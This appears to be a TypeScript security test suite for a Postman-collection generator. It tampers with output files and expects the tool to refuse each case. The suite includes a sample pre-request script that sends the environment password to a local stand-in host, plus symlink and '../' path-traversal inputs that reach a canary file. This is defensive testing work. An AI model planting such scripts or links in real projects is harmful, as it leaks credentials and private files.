import { readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { markCollection } from '../../../src/output/ownership.ts';
import { type Attack, contained, refused } from './attack.ts';

const collectionFile = 'hostile.postman_collection.json';
const environmentFile = 'hostile.dev.postman_environment.json';

type Tree = Record<string, unknown>;

function edit(folder: string, name: string, change: (content: Tree) => Tree): void {
  const path = join(folder, name);
  writeFileSync(path, `${JSON.stringify(change(JSON.parse(readFileSync(path, 'utf8'))), null, '\t')}\n`);
}

const theft = 'pm.sendRequest("http://127.0.0.1:9/" + pm.environment.get("password"), function () {});';
const withTheft = (content: Tree): Tree => ({
  ...content,
  event: [{ listen: 'prerequest', script: { type: 'text/javascript', exec: [theft] } }],
});
const list = 'endpoints.yaml';

/** Replaces the list by one that reaches out of its folder. */
const reachOut =
  (entry: object, more: object = {}) =>
  (folder: string, canary: string) => {
    symlinkSync(canary, join(folder, 'link'));
    const text = JSON.stringify({
      name: 'Hostile',
      environments: { dev: { base_url: 'http://127.0.0.1:9' } },
      ...more,
      endpoints: [{ name: 'Case', request: 'POST /case', ...entry }],
    });
    writeFileSync(join(folder, list), text.replaceAll('{canary}', canary));
  };

/** Files that somebody else has written, or changed. */
export const files: readonly Attack[] = [
  {
    name: 'a script added to the collection',
    why: 'a reviewer looks at the list',
    ...refused,
    codes: ['edited-by-hand'],
    prepare: (folder) => edit(folder, collectionFile, withTheft),
  },
  {
    name: 'a script added to the collection, with its hash',
    why: 'whoever knows us can make the hash',
    ...refused,
    codes: ['stale-file'],
    prepare: (folder) => edit(folder, collectionFile, (content) => markCollection(withTheft(content), list)),
  },
  {
    name: 'a second collection in the same file',
    why: 'of two keys with the same name, some readers take the first',
    ...refused,
    codes: ['edited-by-hand'],
    prepare: (folder) => {
      const path = join(folder, collectionFile);
      writeFileSync(path, readFileSync(path, 'utf8').replace('{', `{ "event": ${JSON.stringify(withTheft({}))},`));
    },
  },
  {
    name: 'a collection that is a link',
    why: 'what is behind it can be exchanged at any time',
    ...refused,
    codes: ['unsafe-output'],
    prepare: (folder) => {
      renameSync(join(folder, collectionFile), join(folder, 'other.json'));
      symlinkSync('other.json', join(folder, collectionFile));
    },
  },
  {
    name: 'a secret that is none any more in the environment',
    why: 'it would be shown',
    ...refused,
    codes: ['stale-file'],
    prepare: (folder) =>
      edit(folder, environmentFile, (content) => ({
        ...content,
        values: (content.values as Tree[]).map((one) => ({ ...one, type: 'default' })),
      })),
  },
  {
    name: 'an environment with a variable more',
    why: 'variables of one’s own are kept; no request names it, and so nothing is sent',
    ...contained,
    prepare: (folder) =>
      edit(folder, environmentFile, (content) => ({
        ...content,
        values: [...(content.values as Tree[]), { key: 'more', value: '{{password}}', type: 'default', enabled: true }],
      })),
  },
  {
    name: 'a body that is a link',
    why: 'the file would be sent',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({ json: { $file: 'link' } }),
  },
  {
    name: 'a script from outside',
    why: 'a script runs, and its first line is quoted when it is wrong',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({ after: { $file: '../../../../../..{canary}' } }),
  },
  {
    name: 'a schema that is a link',
    why: 'a file that is no JSON is quoted by most parsers',
    ...refused,
    codes: ['bad-schema', 'file-outside'],
    prepare: reachOut({ expect: { schema: { $file: 'link' } } }),
  },
  {
    name: 'a template that is a link',
    why: 'a file that is no template is shown with its line',
    ...refused,
    codes: ['file-outside'],
    prepare: reachOut({}, { auth: './link' }),
  },
  {
    name: 'certificates that are a link',
    why: 'it is read by the process that sends',
    ...refused,
    codes: ['file-outside', 'stale-file'],
    prepare: reachOut(
      { safe: true },
      { environments: { dev: { variables: { base_url: 'https://127.0.0.1:9' }, ca_file: 'link' } } },
    ),
  },
];
